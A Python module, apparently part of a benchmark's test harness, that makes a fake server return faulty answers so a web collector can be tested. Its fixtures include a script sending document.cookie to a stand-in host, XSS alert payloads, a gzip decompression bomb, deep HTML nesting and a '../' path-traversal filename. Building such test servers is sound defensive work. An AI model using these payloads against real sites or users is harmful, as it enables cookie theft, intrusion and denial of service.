"""What faults make of an answer."""

from __future__ import annotations

import json
import re
import time
import zlib
from collections.abc import Callable, Iterator, Mapping
from dataclasses import replace
from email.utils import formatdate
from math import ceil

from fgbench.collect.sample.encoder import claim
from fgbench.collect.sample.faults import MOVED, FaultKind, SiteFault
from fgbench.collect.sample.miniature import Answer, Request, html_answer, page, redirect

HUGE = 2 * 2**30
"""Bytes of a huge body."""
ESCAPE = "../../../../tmp/"
"""What a hostile title starts with."""
_PIECE = bytes(2**16)
_BOMB_PIECES = 1024
"""Mebibytes that the packed body unpacks to."""
_NESTED = 10_000


def spoil(fault: SiteFault, request: Request, answer: Answer) -> Answer:
    """What is answered instead of ``answer``. Not for SILENT, which answers nothing."""
    return _SPOILERS[fault.kind](fault, request, answer)


def _too_many(fault: SiteFault, request: Request, answer: Answer) -> Answer:
    headers = {"Content-Type": "text/plain; charset=utf-8"}
    if fault.kind is FaultKind.TOO_MANY:
        headers["Retry-After"] = str(ceil(fault.seconds))
    if fault.kind is FaultKind.TOO_MANY_DATE:
        headers["Retry-After"] = formatdate(ceil(time.time() + fault.seconds), usegmt=True)
    return Answer(429, b"Too many requests\n", headers)


def _error(status: int) -> Callable[[SiteFault, Request, Answer], Answer]:
    def spoiler(fault: SiteFault, request: Request, answer: Answer) -> Answer:
        return Answer(status, b"Something went wrong\n", {"Content-Type": "text/plain"})

    return spoiler


def _leads_to(location: str) -> Callable[[SiteFault, Request, Answer], Answer]:
    """A redirect; ``{}`` stands for the request's own target."""

    def spoiler(fault: SiteFault, request: Request, answer: Answer) -> Answer:
        return redirect(location.replace("{}", request.target))

    return spoiler


def _slow(fault: SiteFault, request: Request, answer: Answer) -> Answer:
    def drip(body: bytes) -> Iterator[bytes]:
        for k in range(len(body)):
            yield body[k : k + 1]
            time.sleep(fault.seconds)

    body = _whole(answer)
    return replace(answer, body=drip(body), length=len(body))


def _truncated(fault: SiteFault, request: Request, answer: Answer) -> Answer:
    body = _whole(answer)
    return replace(answer, body=iter([body[: len(body) // 2]]), length=len(body))


def _wrong_charset(fault: SiteFault, request: Request, answer: Answer) -> Answer:
    text = _whole(answer).decode("utf-8")
    return replace(answer, body=text.encode("windows-1252", "replace"))


def _banned(fault: SiteFault, request: Request, answer: Answer) -> Answer:
    return replace(answer, status=200, body=b"User-agent: *\nDisallow: /\n")


def _huge(fault: SiteFault, request: Request, answer: Answer) -> Answer:
    pieces = (_PIECE for _ in range(HUGE // len(_PIECE)))
    stated = HUGE if fault.kind is FaultKind.HUGE else None
    return replace(answer, body=pieces, length=stated)


def _bomb(fault: SiteFault, request: Request, answer: Answer) -> Answer:
    """Made without unpacking: a block of packed zeros, flushed, is the same every time."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    zeros = bytes(2**20)
    block = packer.compress(zeros) + packer.flush(zlib.Z_FULL_FLUSH)
    checksum = 0
    for _ in range(_BOMB_PIECES):
        checksum = zlib.crc32(zeros, checksum)
    head = bytes((0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 255))
    size = (_BOMB_PIECES * len(zeros)) % 2**32
    tail = packer.flush() + checksum.to_bytes(4, "little") + size.to_bytes(4, "little")
    headers = {**answer.headers, "Content-Encoding": "gzip"}
    return replace(answer, body=head + block * _BOMB_PIECES + tail, headers=headers)


def _hostile(fault: SiteFault, request: Request, answer: Answer) -> Answer:
    block = (
        "<script>document.location='http://elsewhere.example/?'+document.cookie;</script>"
        '<img src="x" onerror="alert(1)"><iframe src="javascript:alert(2)"></iframe>'
        f"{'<div>' * _NESTED}{'</div>' * _NESTED}"
    )
    return _insert(answer, block, html="<body>", within_json=r'mw-parser-output\\"[^>]*>')


def _traversal(fault: SiteFault, request: Request, answer: Answer) -> Answer:
    named = f'attachment; filename="{ESCAPE}page.html"'
    answer = replace(answer, headers={**answer.headers, "Content-Disposition": named})
    return _insert(answer, ESCAPE, html="<title>|<h1[^>]*>", within_json='"title":"')


def _cut_short(fault: SiteFault, request: Request, answer: Answer) -> Answer:
    body = _whole(answer)
    return replace(answer, body=body[: len(body) // 2])


def _not_audio(fault: SiteFault, request: Request, answer: Answer) -> Answer:
    return html_answer(page("Sign in", "Anywhere", "<h1>Sign in to go on</h1>"))


def _misnamed(fault: SiteFault, request: Request, answer: Answer) -> Answer:
    named = 'attachment; filename="sound.wav"'
    headers = {**answer.headers, "Content-Type": "audio/wav", "Content-Disposition": named}
    return replace(answer, headers=headers)


def _ten_hours(fault: SiteFault, request: Request, answer: Answer) -> Answer:
    headers = {**answer.headers, "Content-Type": "audio/wav"}
    return replace(answer, body=claim(_whole(answer), 10 * 3600), headers=headers)


def _insert(answer: Answer, text: str, *, html: str, within_json: str) -> Answer:
    """The answer with a text after each match of a pattern, of its kind; escaped in JSON."""
    body = _whole(answer).decode("utf-8")
    if "json" in answer.headers.get("Content-Type", ""):
        html, text = within_json, json.dumps(text)[1:-1]
    return replace(answer, body=re.sub(html, lambda found: found[0] + text, body).encode())


def _whole(answer: Answer) -> bytes:
    return answer.body if isinstance(answer.body, bytes) else b"".join(answer.body)


_SPOILERS: Mapping[FaultKind, Callable[[SiteFault, Request, Answer], Answer]] = {
    FaultKind.TOO_MANY: _too_many,
    FaultKind.TOO_MANY_DATE: _too_many,
    FaultKind.TOO_MANY_BARE: _too_many,
    FaultKind.SERVER_ERROR: _error(500),
    FaultKind.UNAVAILABLE: _error(503),
    FaultKind.SLOW: _slow,
    FaultKind.TRUNCATED: _truncated,
    FaultKind.WRONG_CHARSET: _wrong_charset,
    FaultKind.MOVED: _leads_to(f"{MOVED}{{}}"),
    FaultKind.AWAY: _leads_to("http://elsewhere.example{}"),
    FaultKind.PRIVATE: _leads_to("http://10.11.12.13{}"),
    FaultKind.LOOP: _leads_to("{}"),
    FaultKind.BANNED: _banned,
    FaultKind.HUGE: _huge,
    FaultKind.HUGE_UNSTATED: _huge,
    FaultKind.BOMB: _bomb,
    FaultKind.HOSTILE: _hostile,
    FaultKind.TRAVERSAL: _traversal,
    FaultKind.GONE: _error(404),
    FaultKind.EMPTY: lambda fault, request, answer: replace(answer, body=b""),
    FaultKind.CUT_SHORT: _cut_short,
    FaultKind.NOT_AUDIO: _not_audio,
    FaultKind.MISNAMED: _misnamed,
    FaultKind.TEN_HOURS: _ten_hours,
}
